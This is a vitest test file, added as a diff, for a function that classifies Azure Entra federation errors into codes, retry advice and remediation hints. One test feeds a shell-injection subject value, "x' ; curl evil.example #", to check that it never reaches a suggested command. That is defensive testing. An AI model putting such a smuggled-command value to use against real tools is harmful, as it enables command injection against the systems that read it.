@@ -1,0 +1,241 @@
+import { AuthenticationError, CredentialUnavailableError } from '@azure/identity';
+import type { FederationErrorCode, PresentedToken } from '@credex/core';
+import { OptionError } from '@credex/core';
+import type { RetryAdvice } from '@credex/core/driver';
+import { describe, expect, it } from 'vitest';
+import { classifyAzureError } from './classify-azure-error.js';
+import { EntraAnswerError } from './parse-entra-response.js';
+
+const FACTS = {
+  tenantId: '11111111-2222-3333-4444-555555555555',
+  clientId: 'aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee',
+  authorityHost: 'https://login.microsoftonline.com',
+};
+const PRESENTED: PresentedToken = {
+  iss: 'https://oidc.vercel.com/acme',
+  aud: 'https://vercel.com/acme',
+  sub: 'owner:acme:project:shop:environment:production',
+  owner: 'acme',
+  environment: 'production',
+};
+const classify = (error: unknown, presented: PresentedToken | undefined = PRESENTED) =>
+  classifyAzureError(error, presented, FACTS);
+
+const refusal = (status: number, body: unknown, headers: Record<string, string> = {}) =>
+  new EntraAnswerError({ status, headers, body: typeof body === 'string' ? body : JSON.stringify(body) });
+const entra = (code: number, error = 'invalid_client', words = 'Something. Trace ID: 1') => ({
+  error,
+  error_description: `AADSTS${code}: ${words}`,
+  error_codes: [code],
+  trace_id: 't',
+  correlation_id: 'c',
+});
+
+describe('by Entra’s number', () => {
+  it.each<[number, FederationErrorCode, RetryAdvice, RegExp]>([
+    [
+      700213,
+      'subject_not_allowed',
+      'never',
+      /'owner:acme:project:shop:environment:production'.*lacks the colon after `project`/,
+    ],
+    [7002138, 'subject_case_mismatch', 'never', /other capitals/],
+    [700211, 'issuer_mismatch', 'never', /mode is team; in global mode it is https:\/\/oidc\.vercel\.com\)/],
+    [700212, 'audience_mismatch', 'never', /'https:\/\/vercel\.com\/acme'.*api:\/\/AzureADTokenExchange/],
+    [70021, 'subject_not_allowed', 'never', /takes some minutes/],
+    [700024, 'subject_token_expired', 'fresh-subject', /vercel env pull/],
+    [50013, 'token_rejected', 'never', /signature/],
+    [7000272, 'token_rejected', 'never', /keys of 'https:\/\/oidc\.vercel\.com\/acme'/],
+    [700016, 'target_not_found', 'never', /aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee.*not its object id/],
+    [90002, 'target_not_found', 'never', /11111111-2222-3333-4444-555555555555.*national cloud/],
+    [500011, 'target_not_found', 'never', /service principal/],
+    [70011, 'invalid_request', 'never', /\.default/],
+    [53003, 'access_denied', 'never', /Conditional Access/],
+    [90033, 'unavailable', 'now', /^$/],
+  ])('%i is %s, %s', (number, code, retry, hint) => {
+    const result = classify(refusal(400, entra(number)));
+    expect(result).toMatchObject({ code, retry, status: 400, serverCode: `AADSTS${number}` });
+    expect(result.hint ?? '').toMatch(hint);
+  });
+
+  it('gives the command that would have the token accepted', () => {
+    const { hint } = classify(refusal(401, entra(700213)));
+    const [, parameters] =
+      /--id aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee --parameters '(\{.*\})'$/.exec(hint ?? '') ?? [];
+    expect(JSON.parse(parameters ?? '')).toEqual({
+      name: 'vercel-production',
+      issuer: 'https://oidc.vercel.com/acme',
+      subject: 'owner:acme:project:shop:environment:production',
+      audiences: ['https://vercel.com/acme'],
+    });
+  });
+
+  it('pastes nothing into a command that a shell could read otherwise, and no server’s words', () => {
+    const sub = "x' ; curl evil.example #";
+    const { hint } = classify(refusal(401, entra(700213, 'invalid_client', 'MARK')), { ...PRESENTED, sub });
+    expect(hint).not.toMatch(/az ad app|evil|MARK/);
+    const { hint: bare } = classifyAzureError(refusal(401, entra(700213)), undefined, FACTS);
+    expect(bare).toMatch(/Compare the three\.$/);
+  });
+
+  it('names the other issuer mode', () => {
+    const presented = { ...PRESENTED, iss: 'https://oidc.vercel.com' };
+    expect(classify(refusal(401, entra(700211)), presented).hint).toMatch(
+      /mode is global; in team mode it is https:\/\/oidc\.vercel\.com\/acme/,
+    );
+  });
+
+  it('tells a token that is not valid yet from one that has ended', () => {
+    const times = (now: string) =>
+      `Client assertion is not within its valid time range. Current time: 2026-11-22T${now}.0000000Z, ` +
+      'assertion valid from 2026-11-22T10:00:00.0000000Z, expiry time of assertion 2026-11-22T11:00:00.0000000Z.';
+    expect(classify(refusal(401, entra(700024, 'invalid_client', times('09:00:00'))))).toMatchObject({
+      code: 'subject_token_not_yet_valid',
+      retry: 'never',
+    });
+    expect(classify(refusal(401, entra(700024, 'invalid_client', times('12:00:00'))))).toMatchObject({
+      code: 'subject_token_expired',
+      retry: 'fresh-subject',
+    });
+  });
+
+  it('comes before the OAuth error, and is read from the words where the list is missing', () => {
+    const { error_codes: _, ...body } = entra(700016, 'unauthorized_client');
+    expect(classify(refusal(400, body))).toMatchObject({
+      code: 'target_not_found',
+      serverCode: 'AADSTS700016',
+    });
+  });
+});
+
+describe('by status and OAuth error', () => {
+  it.each<[number, unknown, FederationErrorCode, RetryAdvice]>([
+    [429, entra(700213), 'throttled', 'now'],
+    [408, '', 'timeout', 'now'],
+    [500, '<html>', 'unavailable', 'now'],
+    [503, entra(999999, 'temporarily_unavailable'), 'unavailable', 'now'],
+    [400, { error: 'temporarily_unavailable' }, 'unavailable', 'now'],
+    [307, '', 'redirect_refused', 'never'],
+    [401, { error: 'invalid_client' }, 'token_rejected', 'never'],
+    [401, entra(123456789), 'token_rejected', 'never'],
+    [400, { error: 'invalid_grant', claims: '{}' }, 'access_denied', 'never'],
+    [400, { error: 'toString' }, 'invalid_request', 'never'],
+    [403, '', 'access_denied', 'never'],
+    [404, 'not found', 'invalid_request', 'never'],
+    [418, [], 'invalid_request', 'never'],
+  ])('%i %j is %s, %s', (status, body, code, retry) => {
+    expect(classify(refusal(status, body))).toMatchObject({ code, retry, status });
+  });
+
+  it.each([
+    [{ 'retry-after': '120' }, 120_000],
+    [{ 'retry-after': 'Sun, 22 Nov 2026 10:00:30 GMT', date: 'Sun, 22 Nov 2026 10:00:00 GMT' }, 30_000],
+    [{ 'retry-after': 'Sun, 22 Nov 2026 10:00:30 GMT' }, undefined],
+    [{ 'retry-after-ms': '250', 'retry-after': '9' }, 250],
+    [{ 'retry-after': '9999999999' }, 86_400_000],
+    [{ 'retry-after': '-5' }, undefined],
+    [{}, undefined],
+  ])('reads the wait of %j', (headers, retryAfterMs) => {
+    expect(classify(refusal(429, '', headers))).toMatchObject({
+      code: 'throttled',
+      throttled: true,
+      retryAfterMs,
+    });
+  });
+});
+
+describe('by the errors of the libraries', () => {
+  it('AuthenticationError, of the text and of the object', () => {
+    for (const body of [JSON.stringify(entra(700213)), entra(700213)]) {
+      expect(classify(new AuthenticationError(401, body))).toMatchObject({
+        code: 'subject_not_allowed',
+        status: 401,
+        serverCode: 'AADSTS700213',
+      });
+    }
+  });
+
+  it('ServerError of MSAL, and what @azure/identity makes of it', () => {
+    const words = 'invalid_client: 7002138 - [2026-11-22]: AADSTS7002138: No match - Correlation ID: c';
+    const server = Object.assign(new Error(words), {
+      name: 'ServerError',
+      errorCode: 'invalid_client',
+      errorMessage: words,
+      errorNo: '7002138',
+      status: 401,
+    });
+    expect(classify(server)).toMatchObject({ code: 'subject_case_mismatch', status: 401 });
+    expect(classify(Object.assign(new Error(words), { name: 'AuthenticationRequiredError' }))).toMatchObject({
+      code: 'subject_case_mismatch',
+    });
+    expect(classify(new CredentialUnavailableError(words))).toMatchObject({ code: 'subject_case_mismatch' });
+  });
+
+  it('RestError with a response', () => {
+    const headers = { toJSON: () => ({ 'retry-after': '3' }) };
+    const response = { status: 429, headers, bodyAsText: '' };
+    expect(classify(Object.assign(new Error('429'), { name: 'RestError', response }))).toMatchObject({
+      code: 'throttled',
+      retryAfterMs: 3000,
+    });
+  });
+
+  it.each<[string, FederationErrorCode, RetryAdvice]>([
+    ['ENOTFOUND', 'network', 'now'],
+    ['ECONNRESET', 'network', 'now'],
+    ['REQUEST_SEND_ERROR', 'network', 'now'],
+    ['UND_ERR_SOCKET', 'network', 'now'],
+    ['ETIMEDOUT', 'timeout', 'now'],
+    ['UND_ERR_HEADERS_TIMEOUT', 'timeout', 'now'],
+    ['SELF_SIGNED_CERT_IN_CHAIN', 'network', 'never'],
+    ['UNABLE_TO_VERIFY_LEAF_SIGNATURE', 'network', 'never'],
+    ['ERR_TLS_CERT_ALTNAME_INVALID', 'network', 'never'],
+  ])('a socket’s %s is %s, %s, at any depth', (name, code, retry) => {
+    const socket = Object.assign(new Error(name), { code: name });
+    const bare = classify(socket);
+    expect(bare).toMatchObject({ code, retry });
+    expect(classify(new TypeError('fetch failed', { cause: new Error('x', { cause: socket }) }))).toEqual(
+      bare,
+    );
+    expect(bare.hint !== undefined).toBe(retry === 'never');
+  });
+
+  it('a signal that fired', () => {
+    expect(classify(new DOMException('late', 'TimeoutError'))).toMatchObject({
+      code: 'timeout',
+      retry: 'now',
+    });
+    expect(classify(new DOMException('gone', 'AbortError'))).toMatchObject({ code: 'timeout', retry: 'now' });
+  });
+
+  it('misuse keeps its words', () => {
+    const error = new OptionError('missing_package', 'exchanger', undefined, 'Install it.');
+    expect(classify(error)).toEqual({ code: 'invalid_request', retry: 'never', hint: 'Install it.' });
+  });
+
+  it('never throws, whatever it is given', () => {
+    const hostile = new Proxy(
+      {},
+      {
+        get: () => {
+          throw new Error('trap');
+        },
+      },
+    );
+    const loop: { cause?: unknown } = {};
+    loop.cause = loop;
+    for (const error of [
+      undefined,
+      null,
+      0,
+      'AADSTS700213',
+      [],
+      {},
+      Symbol('x'),
+      hostile,
+      loop,
+      { response: { status: 400, body: '{', headers: null } },
+    ])
+      expect(classify(error).retry).toBe('never');
+  });
+});
